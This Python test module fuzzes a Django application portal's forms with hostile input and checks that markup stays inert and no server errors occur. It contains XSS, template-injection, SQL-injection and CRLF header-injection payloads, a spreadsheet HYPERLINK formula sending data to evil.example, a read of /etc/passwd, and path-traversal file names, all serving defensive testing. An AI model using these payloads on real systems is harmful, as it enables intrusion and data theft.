"""Every public, applicant and staff form gets random and hostile input (hypothesis): unicode of every kind,
control characters, NUL, very long text, markup and XSS payloads, random bytes as files.

For every example: never a server error (the test client re-raises it), and no markup that was typed is
ever rendered as markup, neither on the form shown again nor on the pages that show what was stored
(review, status, the staff's view of the application, the staff content editor). Payloads reach mail as plain
text exactly as typed and PDFs literally (pypdf reads them back).

Examples are bounded (``FUZZ``) so the hypothesis tests run in well under a minute; the walk with ids no key can
hold (``test_huge_ids_in_every_form_and_url``) reads every page of the matrix and takes about as long again. Formula injection in the
CSV and XLSX exports is tested in tests/applications/test_staff_exports.py (not repeated here).
"""

import html as htmllib
import operator
import re
from contextlib import contextmanager
from urllib.parse import urljoin

import pytest
from django.core import mail
from django.core.cache import caches
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import transaction
from django.test import Client
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from campus.applications import selectors
from campus.programme.models import ContactMessage

from .http import body, pdf_text
from .matrix import MATRIX
from .urlwalk import admin_urls
from .world import PASSWORD

pytestmark = [pytest.mark.django_db, pytest.mark.slow]

FUZZ = settings(
    max_examples=30,
    deadline=None,
    database=None,  # no .hypothesis/ folder in the work tree; a failure prints the example to reproduce it
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
    print_blob=True,
)

MARK = "XSS9"
PAYLOADS = [
    f'<script>alert("{MARK}")</script>',
    f"\"><img src=x onerror=alert('{MARK}')>",
    f"'><svg/onload=alert('{MARK}')>",
    f"<a href=\"javascript:alert('{MARK}')\">{MARK}</a>",
    f'</textarea><script>alert("{MARK}")</script>',
    f'</title><script>alert("{MARK}")</script>',
    f'<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">{MARK}</iframe>',
    f"<!--{MARK}-->",
    f"{{{{ 7|add:7 }}}} {{% debug %}} {MARK}",  # Django template syntax: must stay text
    f"${{7*7}} #{{7*7}} {MARK}",
    f'#read("/etc/passwd") #panic("{MARK}") *bold* $x^2$',  # typst markup: must stay text in PDFs
    f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")',
    f"'; DROP TABLE applications_application; -- {MARK}",
    f"{MARK}\r\nBcc: victim@example.org",
    f"{MARK}\x00nul",
    f"\u202e{MARK}\u202c",
    f"%(name)s {{0}} {MARK}",
]
# Raw markup that must never reach a page unescaped (the payloads above, as a browser would run them).
RAW = ["<script>alert", "<img src=x onerror", "<svg/onload", 'href="javascript:', "<iframe srcdoc", f"<!--{MARK}"]
# Our own scripts: files from /static/ (and the admin's translations); CSP forbids inline ones anyway.
OUR_SCRIPTS = re.compile(r'<script\b[^<>]*\bsrc="/(static/[^"<>]+|staff/content/jsi18n/)"[^<>]*>\s*</script>')

payload = st.sampled_from(PAYLOADS)
hostile = st.one_of(
    payload,
    st.builds(lambda a, p, b: a + p + b, st.text(max_size=20), payload, st.text(max_size=20)),
    st.text(max_size=200),  # any unicode (surrogates excepted: they cannot be sent as UTF-8)
    st.text(st.characters(categories=["Cc", "Cf", "Zl", "Zp", "Co", "Mn"]), max_size=40),
    st.builds(operator.mul, st.sampled_from(["A", "é", "<b>", "💥", "\u202e", "x "]), st.integers(300, 25000)),
)


def maybe(valid):
    """A field's value: hostile, the valid one (so the rest of the form gets through), or left out."""
    return st.one_of(hostile, st.just(valid), st.none())


def payload_of(fields: dict) -> dict:
    return {key: value for key, value in fields.items() if value is not None}


def assert_inert(response_or_html, where=""):
    html = response_or_html if isinstance(response_or_html, str) else body(response_or_html).decode("utf-8", "replace")
    rest = OUR_SCRIPTS.sub("", html).lower()
    at = rest.find("<script")
    assert at < 0, f"a script tag that is not ours on {where}: …{rest[max(0, at - 200):at + 200]}…"
    for raw in RAW:
        assert raw not in html, f"{raw!r} rendered unescaped on {where}"


def is_html(response) -> bool:
    return response.get("Content-Type", "").startswith("text/html")


def check(response, where=""):
    assert response.status_code < 500, where
    if is_html(response):
        assert_inert(response, where)


@contextmanager
def rolled_back():
    """One example: what it stores is gone before the next (and so are rate-limit counters)."""
    for cache in caches.all():
        cache.clear()
    mail.outbox = []
    with transaction.atomic():
        yield
        transaction.set_rollback(True)


def signed_in(world, role) -> Client:
    client = Client()
    client.force_login(world.user(role))
    return client


# --- public forms ---------------------------------------------------------------------------------------------

TOPICS = [choice for choice, _ in ContactMessage.Topic.choices]


@FUZZ
@example(fields={"name": PAYLOADS[0], "email": "carla@example.org", "organisation": PAYLOADS[1], "topic": TOPICS[0],
                 "message": "\n".join(PAYLOADS[2:8]), "website": ""})
@given(fields=st.fixed_dictionaries({
    "name": maybe("Carla Contact"), "email": maybe("carla@example.org"), "organisation": maybe(""),
    "topic": maybe(TOPICS[0]), "message": maybe("A question about the programme, please."), "website": maybe(""),
}))
def test_contact_form(world, run_tasks, django_capture_on_commit_callbacks, fields):
    manager = signed_in(world, "manager")
    with rolled_back():
        before = ContactMessage.objects.count()
        with django_capture_on_commit_callbacks(execute=True):
            response = Client().post("/contact/", payload_of(fields))
        check(response, "/contact/")
        if ContactMessage.objects.count() > before:  # stored (not refused, not dropped by the honeypot)
            contact = ContactMessage.objects.latest("pk")
            run_tasks()
            (sent,) = [m for m in mail.outbox if m.subject.startswith("Contact form:")]
            assert contact.message in sent.body and f"Name: {contact.name}\n" in sent.body  # as typed
            assert not getattr(sent, "alternatives", [])  # plain text only
            check(manager.get("/staff/content/programme/contactmessage/"), "the contact messages in the editor")
            check(manager.get(f"/staff/content/programme/contactmessage/{contact.pk}/change/"), "a contact message")


@FUZZ
@given(email=maybe("new.person@example.org"), password1=maybe("kelp harbour lantern 42"),
       password2=maybe("kelp harbour lantern 42"), login=maybe("aino.secret@example.fi"), password=maybe(PASSWORD))
def test_sign_up_and_sign_in(world, email, password1, password2, login, password):
    with rolled_back():
        client = Client()
        check(client.post("/accounts/signup/", payload_of({"email": email, "password1": password1,
                                                           "password2": password2})), "sign-up")
    with rolled_back():
        client = Client()
        check(client.post("/accounts/login/", payload_of({"login": login, "password": password})), "sign-in")
        check(Client().post("/accounts/password/reset/", payload_of({"email": login})), "password reset")


# --- the application -------------------------------------------------------------------------------------------

VALID = {
    "first_name": "Jonas", "last_name": "Petraitis", "email": "jonas@example.lt", "phone": "+370 600 12345",
    "country_of_residence": "LT", "organisation": "Kaunas IT Cluster", "role": "Cluster manager",
    "languages": "Lithuanian", "english_level": "fluent", "cluster_name": "KITC",
    "cluster_website": "https://kitc.example.lt", "cluster_country": "LT", "cluster_sector": "ICT",
    "cluster_members": "80", "years_as_manager": "3", "project_management": "yes",
    "project_management_description": "Two EU projects.", "motivation_letter": "I want to learn scouting.",
    "can_join_all_modules": "no", "meetups_might_miss": "", "availability_note": "",
}


def _step_fields(step):
    """A strategy of the step's form data, from the call's questions (data, so new questions are fuzzed too)."""
    def build(call):
        keys = [q.key for q in selectors.questions_for_step(call, step)]
        return st.fixed_dictionaries({key: maybe(VALID.get(key, "")) for key in keys})
    return build


def _pages_showing_the_draft(world, other, manager):
    """Where stored answers and file names are shown: the review page (every answer, the files) and the staff's
    view of the application (status and step pages use the same escaping templates: not fetched each time)."""
    check(other.get("/apply/review/"), "/apply/review/")
    check(manager.get(f"/staff/applications/{world.other_application.pk}/"), "the staff view of the draft")


@FUZZ
@given(data=st.data(), step=st.sampled_from(["about", "cluster", "motivation", "availability", "consent"]),
       action=st.sampled_from([None, "leave", "next"]))
def test_application_steps(world, data, step, action):
    other, manager = signed_in(world, "other"), signed_in(world, "manager")
    fields = data.draw(_step_fields(step)(world.call))
    if step == "consent":
        fields["accept"] = data.draw(maybe("on"))
    if action:
        fields["action"] = action
    with rolled_back():
        check(other.post(f"/apply/step/{step}/", payload_of(fields)), f"/apply/step/{step}/")
        _pages_showing_the_draft(world, other, manager)


file_bytes = st.one_of(
    st.binary(max_size=4096),
    st.builds(operator.add, st.sampled_from([b"%PDF-1.7\n", b"PK\x03\x04", b"\x7fELF", b"MZ", b"<svg"]),
              st.binary(max_size=4096)),
)
file_names = st.one_of(st.sampled_from(["cv.pdf", "../../etc/passwd\x00.pdf", "cv\u202efdp.exe", "<b>x</b>.docx",
                                        "a" * 300 + ".pdf", ".pdf", "cv.odt"]),
                       st.text(st.characters(exclude_characters='"\r\n\\/', exclude_categories=["Cs", "Cc"]),
                               min_size=1, max_size=60))


@FUZZ
@given(content=file_bytes, name=file_names, step=st.sampled_from(["cv", "motivation"]))
def test_file_steps_with_random_bytes(world, content, name, step):
    other, manager = signed_in(world, "other"), signed_in(world, "manager")
    field = "cv-file" if step == "cv" else "letter-file"
    with rolled_back():
        upload = SimpleUploadedFile(name, content, content_type="application/pdf")
        response = other.post(f"/apply/step/{step}/", {field: upload, "motivation_letter": "Short letter."})
        check(response, f"/apply/step/{step}/ with a random file")
        if response.status_code == 200:
            assert 'class="field__error"' in body(response).decode()  # refused with a message at the field
        for document in world.other_application.documents.all():  # accepted (a plausible header): served inert
            served = other.get(f"/apply/documents/{document.pk}/")
            assert served["Content-Disposition"].startswith("attachment;")
            assert served["Content-Security-Policy"] == "default-src 'none'; sandbox"
            assert served["X-Content-Type-Options"] == "nosniff"
        _pages_showing_the_draft(world, other, manager)


@FUZZ
@given(fields=st.fixed_dictionaries({"applicant_name": maybe("Aino Virtanen"), "role": maybe("Cluster manager"),
                                     "organisation": maybe("EnergyVaasa"), "boss_name": maybe("Maria")}),
       role=st.sampled_from(["anonymous", "applicant"]))
def test_boss_letter(world, fields, role):
    client = Client() if role == "anonymous" else signed_in(world, role)
    with rolled_back():
        response = client.post("/apply/boss-letter/", payload_of(fields))
        check(response, "/apply/boss-letter/")
        if response.status_code == 200 and not is_html(response):
            assert response["Content-Type"] == "application/pdf"
            assert response["Content-Disposition"].startswith("attachment;")
            pdf_text(body(response))  # a well-formed PDF


# --- staff forms -------------------------------------------------------------------------------------------------

moments = st.one_of(hostile, st.sampled_from(["2099-12-31T17:00", "2099-12-31 17:00", "2000-01-01T00:00",
                                              "9999-12-31T23:59", "0001-01-01T00:00", "2099-02-30T10:00"]))


@FUZZ
@given(form=st.sampled_from(["override", "extend", "info"]), data=st.data())
def test_staff_forms(world, form, data):
    manager, applicant = signed_in(world, "manager"), signed_in(world, "applicant")
    pk = world.application.pk
    url, fields = {
        "override": (f"/staff/applications/{pk}/eligibility/", {
            "override-status": data.draw(maybe("not_eligible")), "override-reason": data.draw(maybe("Checked."))}),
        "extend": (f"/staff/applications/{pk}/deadline/", {"extend-until": data.draw(st.one_of(moments, st.none()))}),
        "info": (f"/staff/applications/{pk}/more-information/", {
            "info-message": data.draw(maybe("Please add your CV.")),
            "info-until": data.draw(st.one_of(moments, st.none()))}),
    }[form]
    with rolled_back():
        response = manager.post(url, payload_of(fields))
        check(response, url)
        if response.status_code == 302:
            check(manager.get(response["Location"]), "the application after a staff action")
            check(applicant.get("/apply/status/"), "the applicant's status page after a staff action")


@FUZZ
@example(params={"q": f"{MARK}\x00", "country": "\x00"})  # once a 500 on PostgreSQL (the export's log entry)
@given(params=st.fixed_dictionaries({}, optional={
    "q": hostile, "state": maybe("submitted"), "eligibility": maybe("eligible"), "country": maybe("FI"),
    "page": st.one_of(hostile, st.integers(-5, 10**12).map(str)), "call": st.one_of(hostile, st.integers().map(str)),
}))
def test_staff_list_filters(world, params):
    manager = signed_in(world, "manager")
    params = payload_of(params)
    with rolled_back():
        response = manager.get("/staff/applications/", params)
        check(response, "the staff list with filters")
        assert response.status_code in (200, 404)
        export = manager.get("/staff/applications/export.csv", params)
        assert export.status_code in (200, 404)


# --- payloads, as typed, in mail and PDFs -----------------------------------------------------------------------

PRINTABLE = [p for p in PAYLOADS if p.isprintable()]  # NUL, CR/LF and bidi controls are refused or not printed


@pytest.mark.parametrize("text", PRINTABLE, ids=range(len(PRINTABLE)))
def test_the_boss_letter_prints_a_payload_literally(world, text):
    response = Client().post("/apply/boss-letter/", {"applicant_name": "Aino", "role": text,
                                                     "organisation": "EnergyVaasa", "boss_name": ""})
    assert response.status_code == 200, body(response)[:500]
    printed = " ".join(pdf_text(body(response)).split())
    assert " ".join(text.split()) in printed
    assert "root:x:0" not in printed  # #read("/etc/passwd") stayed text


def test_the_more_information_mail_is_plain_text_as_typed(world, run_tasks, django_capture_on_commit_callbacks):
    message = f'Fix "A & B" <3 \'{MARK}\' {{{{ x }}}} %(name)s #read("/etc/passwd") =1+1 & &amp;'
    manager, applicant = signed_in(world, "manager"), signed_in(world, "applicant")
    with django_capture_on_commit_callbacks(execute=True):
        response = manager.post(f"/staff/applications/{world.application.pk}/more-information/",
                                {"info-message": message, "info-until": "2099-12-31T17:00"})
    assert response.status_code == 302
    mail.outbox = []
    run_tasks()
    (sent,) = [m for m in mail.outbox if m.to == [world.user("applicant").email] and MARK in m.body]
    assert message in sent.body and not getattr(sent, "alternatives", [])
    status = body(applicant.get("/apply/status/")).decode()
    assert "Fix &quot;A &amp; B&quot; &lt;3 &#x27;XSS9&#x27;" in status
    assert "&amp;amp;" in status


def test_markup_in_staff_notes_is_refused_with_a_message(world):
    manager = signed_in(world, "manager")
    response = manager.post(f"/staff/applications/{world.application.pk}/more-information/",
                            {"info-message": PAYLOADS[0], "info-until": "2099-12-31T17:00"})
    assert response.status_code == 200
    assert "Write plain text: HTML tags such as &lt;script&gt; are not allowed." in body(response).decode()
    assert_inert(response)


def test_the_pages_showing_contact_messages_pass_the_inert_check(world):
    """The check itself on the admin's pages (scripts with an id before src, the translations)."""
    manager = signed_in(world, "manager")
    contact = ContactMessage.objects.latest("pk")
    base = "/staff/content/programme/contactmessage/"
    for url in (base, f"{base}{contact.pk}/change/"):
        response = manager.get(url)
        assert response.status_code == 200
        assert_inert(response, url)


@pytest.mark.parametrize("name", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_contact_message_reaches_the_team_as_typed(world, run_tasks, django_capture_on_commit_callbacks, name):
    """Whatever the name holds (markup, a CR/LF "Bcc:" header injection, bidi controls), the team gets the mail,
    in plain text, as typed; a NUL is refused on the form."""
    message = "\n".join(PAYLOADS[:6])
    with django_capture_on_commit_callbacks(execute=True):
        response = Client().post("/contact/", {"name": name, "email": "carla@example.org", "topic": TOPICS[0],
                                               "message": message})
    if "\x00" in name:
        assert response.status_code == 200 and "Null characters are not allowed." in body(response).decode()
        return
    assert response.status_code == 302
    contact = ContactMessage.objects.latest("pk")
    assert contact.name == name.strip()
    mail.outbox = []
    run_tasks()
    (sent,) = [m for m in mail.outbox if m.subject.startswith("Contact form:")]
    assert f"Name: {contact.name}\n" in sent.body and message in sent.body
    assert sent.subject.endswith(" ".join(contact.name.split()))
    assert "victim@example.org" not in sent.message()["Bcc"] if sent.message()["Bcc"] else True
    assert sent.bcc == []
    assert not getattr(sent, "alternatives", [])


# --- bodies no browser would send -------------------------------------------------------------------------------

GARBAGE = [
    (b"\xff\xfe\xfd=\xc3\x28&email=\xe2\x82", "application/x-www-form-urlencoded"),
    (b"&".join(b"f%d=1" % n for n in range(1500)), "application/x-www-form-urlencoded"),  # too many fields
    (b"--x\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nb", "multipart/form-data; boundary=x"),  # cut off
    (b"--x\r\nContent-Disposition: form-data; name=\"cv-file\"; filename=\"\x00\r\n\r\n%PDF\r\n--x--\r\n",
     "multipart/form-data; boundary=x"),
    (b"{\"email\": \"a@example.org\"}", "application/json"),
    (b"a=" + b"%" * 5000, "application/x-www-form-urlencoded"),
]


@pytest.mark.parametrize("role", ["anonymous", "other", "manager"])
def test_garbage_bodies_never_cause_a_server_error(world, role):
    client = Client() if role == "anonymous" else signed_in(world, role)
    failures = []
    for key, cases in MATRIX.items():
        for case in cases:
            if case.POST[role] == "405":
                continue
            url = case.url.format(**world.values)
            for raw, content_type in GARBAGE:
                with rolled_back():
                    try:
                        response = client.post(url, raw, content_type=content_type)
                    except Exception as error:  # noqa: BLE001 - collected and reported below
                        failures.append(f"{role} POST {url} ({key}) {raw[:30]!r}: {type(error).__name__}: {error}")
                        continue
                if response.status_code >= 500:
                    failures.append(f"{role} POST {url} ({key}) {raw[:30]!r}: {response.status_code}")
    assert not failures, "\n".join(failures)


# --- ids that no database key can hold (issue 9, finding 7) -------------------------------------------------------

HUGE_IDS = [str(2**63), str(-(2**63) - 1), str(10**30)]
PLACEHOLDER = re.compile(r"\{\w+\}")
FORM = re.compile(r"<form\b([^>]*)>(.*?)</form>", re.S | re.I)
ACTION = re.compile(r'\baction="([^"]*)"', re.I)
METHOD = re.compile(r'\bmethod="([^"]*)"', re.I)
FIELD = re.compile(r'<(?:input|select|textarea|button)\b[^>]*?\bname="([^"]+)"', re.I)


def forms_on(url, page):
    """(method, action URL, field names) of every form on a page, but the sign-out (it would end the session)."""
    for attrs, inner in FORM.findall(page):
        action = ACTION.search(attrs)
        target = urljoin(url, htmllib.unescape(action.group(1))) if action and action.group(1) else url
        method = (METHOD.search(attrs).group(1) if METHOD.search(attrs) else "get").lower()
        names = tuple(sorted({htmllib.unescape(name) for name in FIELD.findall(inner)}))
        if names and "logout" not in target:
            yield method, target, names


@pytest.mark.parametrize("role", ["other", "superuser"])  # an applicant's forms; every staff form and the admin
def test_huge_ids_in_every_form_and_url(world, role):
    """Every URL of the matrix with 2**63, -2**63-1 and 10**30 in place of each of its ids (GET and POST); every
    form on every page the role sees, each field set to those values (an admin changelist's form runs the delete
    action on them); the admin's changelists with ``?id__in=`` and its object pages. Never a server error.
    About half a minute: every page of the matrix is read once per role."""
    failures, seen = [], set()

    def ask(client, method, url, data=None):
        with rolled_back():
            try:
                response = getattr(client, method)(url, data or {})
            except Exception as error:  # noqa: BLE001 - collected and reported below
                failures.append(f"{method.upper()} {url} {data or ''}: {type(error).__name__}: {error}")
                return None
        if response.status_code >= 500:
            failures.append(f"{method.upper()} {url} {data or ''}: {response.status_code}")
        return response

    pages = sorted({case.url for cases in MATRIX.values() for case in cases})
    if role != "other":
        client = signed_in(world, role)
        for (admin_pages, _exists) in admin_urls(world).values():
            pages.append(admin_pages["changelist"])
            ask(client, "get", admin_pages["changelist"], {"id__in": ",".join(["1", *HUGE_IDS])})
            for huge in HUGE_IDS:
                ask(client, "get", f"{admin_pages['changelist']}{huge}/change/")
    for template in pages:
        client = signed_in(world, role)  # a fresh session each page: a form may have changed the last one
        for huge in HUGE_IDS if PLACEHOLDER.search(template) else ():
            ask(client, "get", PLACEHOLDER.sub(huge, template))
            ask(client, "post", PLACEHOLDER.sub(huge, template))
        url = template.format(**world.values)
        page = ask(client, "get", url)
        if page is None or page.status_code != 200 or not is_html(page):
            continue
        for method, target, names in forms_on(url, body(page).decode()):
            if (method, target.split("?")[0], names) in seen or method not in ("get", "post"):
                continue
            seen.add((method, target.split("?")[0], names))
            for huge in HUGE_IDS:
                data = dict.fromkeys(names, huge)
                if "_selected_action" in names:
                    data["action"] = "delete_selected"
                ask(client, method, target, data)
    assert not failures, f"{len(failures)} server errors:\n" + "\n".join(failures)
